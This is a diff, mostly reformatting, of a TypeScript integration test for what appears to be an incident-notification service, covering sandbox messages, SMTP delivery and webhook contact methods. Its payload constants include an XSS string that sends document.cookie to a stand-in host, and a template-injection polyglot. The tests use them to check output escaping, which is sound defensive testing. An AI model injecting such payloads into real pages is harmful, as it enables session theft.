@@ -5,10 +5,16 @@ import type { SandboxMessage } from '@tocsin/contracts';
 import { freePort, testDatabase, type TestDatabase, until } from '@tocsin/test-rig';
 import { type ParsedMail, simpleParser } from 'mailparser';
 import { SMTPServer } from 'smtp-server';
-import { aPage, type NotificationUnderTest, OPERATOR_TOKEN, startNotification, worldOf } from '../../notification-under-test.js';
+import {
+  aPage,
+  type NotificationUnderTest,
+  OPERATOR_TOKEN,
+  startNotification,
+  worldOf,
+} from '../../notification-under-test.js';
 
 const XSS = `<img src=x onerror=alert(1)><script>fetch('//e/'+document.cookie)</script>`;
-const TEMPLATE = '"><svg/onload=alert`1`>{{constructor.constructor(\'alert(1)\')()}}${7*7}#{7*7}<%= 7*7 %>';
+const TEMPLATE = "\"><svg/onload=alert`1`>{{constructor.constructor('alert(1)')()}}${7*7}#{7*7}<%= 7*7 %>";
 
 describe('sandbox phones, e-mail and contact methods', () => {
   let database: TestDatabase;
@@ -23,7 +29,9 @@ describe('sandbox phones, e-mail and contact methods', () => {
       authOptional: true,
       disabledCommands: ['STARTTLS'],
       onRcptTo: ({ address }, _session, done) =>
-        done(address.startsWith('gone') ? Object.assign(new Error('no such user'), { responseCode: 550 }) : null),
+        done(
+          address.startsWith('gone') ? Object.assign(new Error('no such user'), { responseCode: 550 }) : null,
+        ),
       onData: (stream, session, done) => {
         void simpleParser(stream).then((mail) => {
           mails.push({ mail, to: session.envelope.rcptTo.map(({ address }) => address) });
@@ -40,7 +48,11 @@ describe('sandbox phones, e-mail and contact methods', () => {
         mail: { email: 'bo@example.com' },
         old: { email: 'gone@example.com' },
       },
-      notify: { P1: [{ via: ['desk', 'phone'] }], P2: [{ via: 'mail' }], P3: [{ via: 'old' }, { via: 'desk', after: '10m' }] },
+      notify: {
+        P1: [{ via: ['desk', 'phone'] }],
+        P2: [{ via: 'mail' }],
+        P3: [{ via: 'old' }, { via: 'desk', after: '10m' }],
+      },
     });
     service = await startNotification(database.url, tree, {
       SMTP_URL: `smtp://127.0.0.1:${port}`,
@@ -53,7 +65,9 @@ describe('sandbox phones, e-mail and contact methods', () => {
     await database.drop();
   });
 
-  const messages = async (query = ''): Promise<{ messages: (SandboxMessage & { kind: string })[]; next: string }> =>
+  const messages = async (
+    query = '',
+  ): Promise<{ messages: (SandboxMessage & { kind: string })[]; next: string }> =>
     (await fetch(`${service.url}/v1/sandbox/messages${query}`)).json() as never;
   const receivedFor = (caseId: string) =>
     until(async () => {
@@ -84,7 +98,9 @@ describe('sandbox phones, e-mail and contact methods', () => {
     const html = await answer.text();
     expect(answer.headers.get('content-security-policy')).toContain("default-src 'self'");
     expect(html).not.toMatch(/<img|<svg|<script>|\b49\b/);
-    expect(html).toContain(subject.includes('img') ? '&lt;img src=x onerror=alert(1)&gt;' : '&quot;&gt;&lt;svg/onload');
+    expect(html).toContain(
+      subject.includes('img') ? '&lt;img src=x onerror=alert(1)&gt;' : '&quot;&gt;&lt;svg/onload',
+    );
     expect(html).toContain('沙盒手机');
     expect(html).toMatch(/href="\/a\/[A-Za-z0-9_-]{22}"/);
   });
@@ -106,7 +122,10 @@ describe('sandbox phones, e-mail and contact methods', () => {
     expect(sent?.mail.text).toMatch(/\/a\/[A-Za-z0-9_-]{22}/);
     expect(sent?.mail.html).toContain('<a href="http');
     await until(async () => {
-      const [row] = await database.query<{ state: string }>('SELECT state FROM notification.attempt WHERE case_id = $1', [page.caseId]);
+      const [row] = await database.query<{ state: string }>(
+        'SELECT state FROM notification.attempt WHERE case_id = $1',
+        [page.caseId],
+      );
       return row?.state === 'accepted';
     });
   });
@@ -121,21 +140,38 @@ describe('sandbox phones, e-mail and contact methods', () => {
   const api = (method: string, path: string, body?: object, token = OPERATOR_TOKEN): Promise<Response> =>
     fetch(`${service.url}${path}`, {
       method,
-      headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
+      headers: {
+        authorization: `Bearer ${token}`,
+        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
+      },
       ...(body === undefined ? {} : { body: JSON.stringify(body) }),
     });
 
   it('adds, lists and removes a webhook of a person, and never shows its secret', async () => {
     const secret = `whsec_${Buffer.alloc(24, 3).toString('base64')}`;
-    const added = await api('POST', '/v1/contact-methods', { person: 'bo', kind: 'webhook', url: 'http://127.0.0.1:9/hook?k=1', secret });
+    const added = await api('POST', '/v1/contact-methods', {
+      person: 'bo',
+      kind: 'webhook',
+      url: 'http://127.0.0.1:9/hook?k=1',
+      secret,
+    });
     expect(added.status).toBe(201);
     const view = (await added.json()) as { id: string };
-    expect(view).toMatchObject({ person: 'bo', kind: 'webhook', verified: true, by: 'person', address: 'http://127.0.0.1:9/…' });
+    expect(view).toMatchObject({
+      person: 'bo',
+      kind: 'webhook',
+      verified: true,
+      by: 'person',
+      address: 'http://127.0.0.1:9/…',
+    });
     const listed = await (await api('GET', '/v1/contact-methods?person=bo')).text();
     expect(listed).toContain(view.id);
     expect(listed).toContain('"by":"config"');
     expect(listed).not.toContain(secret);
-    const [row] = await database.query<{ secret: Buffer }>('SELECT secret FROM notification.contact_method WHERE id = $1', [view.id]);
+    const [row] = await database.query<{ secret: Buffer }>(
+      'SELECT secret FROM notification.contact_method WHERE id = $1',
+      [view.id],
+    );
     expect(row?.secret.toString('latin1')).not.toContain(secret.slice(6));
     expect((await api('DELETE', `/v1/contact-methods/${view.id}`)).status).toBe(204);
     expect((await api('DELETE', `/v1/contact-methods/${view.id}`)).status).toBe(404);
@@ -149,7 +185,12 @@ describe('sandbox phones, e-mail and contact methods', () => {
     ['/person', { person: 'constructor' }],
     ['/secret', { secret: 'not base64, but long enough' }],
   ])('refuses a contact method and names %s: %j', async (pointer, fault) => {
-    const answer = await api('POST', '/v1/contact-methods', { person: 'bo', kind: 'webhook', url: 'http://127.0.0.1/', ...fault });
+    const answer = await api('POST', '/v1/contact-methods', {
+      person: 'bo',
+      kind: 'webhook',
+      url: 'http://127.0.0.1/',
+      ...fault,
+    });
     expect(answer.status).toBe(422);
     expect(await answer.json()).toMatchObject({ errors: [{ pointer }] });
   });
@@ -162,7 +203,9 @@ describe('sandbox phones, e-mail and contact methods', () => {
     const page = aPage();
     await service.request(page);
     await receivedFor(page.caseId);
-    const { deliveries } = (await (await api('GET', `/v1/deliveries?case=${page.caseId.toLowerCase()}`)).json()) as { deliveries: unknown[] };
+    const { deliveries } = (await (
+      await api('GET', `/v1/deliveries?case=${page.caseId.toLowerCase()}`)
+    ).json()) as { deliveries: unknown[] };
     expect(deliveries).toHaveLength(2);
     expect((await api('GET', '/v1/deliveries?case=*')).status).toBe(422);
   });
